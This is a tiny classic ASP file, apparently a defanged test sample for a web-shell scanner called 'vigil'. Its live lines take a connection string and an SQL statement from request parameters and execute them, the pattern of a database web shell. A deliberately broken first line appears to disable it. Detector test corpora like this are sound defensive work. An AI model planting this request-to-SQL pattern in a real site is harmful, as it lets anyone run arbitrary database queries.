<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Set conn = Server.CreateObject("ADODB.Connection")
conn.Open Request("connstr")
Set rs = conn.Execute(Request("sql"))
%>
